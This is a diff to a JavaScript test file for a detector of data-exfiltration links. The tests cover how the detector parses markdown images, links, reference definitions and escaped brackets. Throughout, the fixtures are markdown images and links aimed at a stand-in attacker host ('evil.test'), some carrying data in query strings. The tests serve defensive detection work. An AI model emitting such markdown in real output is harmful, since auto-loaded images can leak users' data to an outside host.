@@ -184,8 +184,9 @@ test('exfil links: labels, the blanks around a destination and titles run over l
     `![x](${' '.repeat(40)}https://evil.test/p.png${'\t'.repeat(12)})`,
     '![x\n](https://evil.test/p.png)',
   ]) assert.deepEqual(spans(`Intro\n${x} after`), [x], JSON.stringify(x));
-  // A blank line ends the paragraph: no image, and nothing is joined across it.
-  assert.deepEqual(spans('![chart\n\nof data](https://evil.test/p.png)'), []);
+  // A blank line ends the paragraph: no image, and nothing is joined across it (the destination tail
+  // alone still goes: see the destination tests below).
+  assert.deepEqual(spans('![chart\n\nof data](https://evil.test/p.png)'), ['](https://evil.test/p.png)']);
   assert.deepEqual(spans('![x](\n \t\nhttps://evil.test/p.png)'), []);
   assert.equal(joinLines('a\nb\r\nc\n\nd\n  \ne\n'), 'a b  c\n\nd\n  \ne ');
   // Reference definitions: the destination on the next line; a label over two lines where the
@@ -215,10 +216,19 @@ test('exfil links: destinations with balanced or escaped parentheses, titles too
   assert.deepEqual(spans('![x](https://trusted.example\\@evil.test/p.png)'), [['![x](https://trusted.example\\@evil.test/p.png)', 'markdown image']]);
   assert.deepEqual(spans('[x](https://trusted.example/a\\_b)'), []);
   // Escaped brackets are text: the image below has the description "a](b)" (it used to read as a link
-  // to "b", and the image was not found); an escaped opener opens nothing; an escaped backslash escapes nothing.
+  // to "b", and the image was not found); an escaped opener opens nothing, though the destination tail
+  // after it still goes; an escaped backslash escapes nothing.
   assert.deepEqual(spans('![a\\](b)](https://evil.test/p.png?q=S)'), [['![a\\](b)](https://evil.test/p.png?q=S)', 'markdown image']]);
   // (An escaped '!' before a link is read as an image's: more goes, nothing stays behind.)
-  assert.deepEqual(spans('see \\[x](https://evil.test/) and \\![y](https://evil.test/)'), [['![y](https://evil.test/)', 'markdown image']]);
+  assert.deepEqual(spans('see \\[x](https://evil.test/) and \\![y](https://evil.test/)'), [['](https://evil.test/)', 'markdown destination'], ['![y](https://evil.test/)', 'markdown image']]);
+  // Link text the patterns do not read (balanced brackets, code spans, raw HTML): the destination tail goes.
+  for (const x of ['![[a]](https://evil.test/p.png?q=S)', '![`]`](https://evil.test/p.png)', '![<b title="]">x</b>](https://evil.test/p.png)', `![[a]](https://evil.test/p.png "${'t'.repeat(300)}")`]) {
+    const f = d.scan(x, ctx);
+    assert.deepEqual(f.map((y) => [x.slice(y.start, y.end).startsWith('](https://evil.test/p.png') && !x.slice(y.end).includes('evil'), y.score >= 0.9, y.explanation.split(',')[0]]), [[true, true, 'markdown destination']], x);
+  }
+  assert.deepEqual(spans('[[a]](https://trusted.example/x) [`]`](<https://trusted.example/y>)'), []);
+  // images_only still reads links (and leaves them alone): their tails are not taken for unknown openers.
+  assert.deepEqual(createExfilLinksDetector({ id: 'e', imagesOnly: true }).scan('[x](https://evil.test/a) [y](https://evil.test/b "t" junk)', ctx), []);
   assert.deepEqual(spans('[a\\\\](https://evil.test/?q=S)'), [['[a\\\\](https://evil.test/?q=S)', 'markdown link']]);
   assert.deepEqual(spans('[r\\]x]\n\n[R\\]X]: https://evil.test/r'), [['[r\\]x]', 'markdown reference link'], ['[R\\]X]: https://evil.test/r', 'markdown reference definition']]);
 });
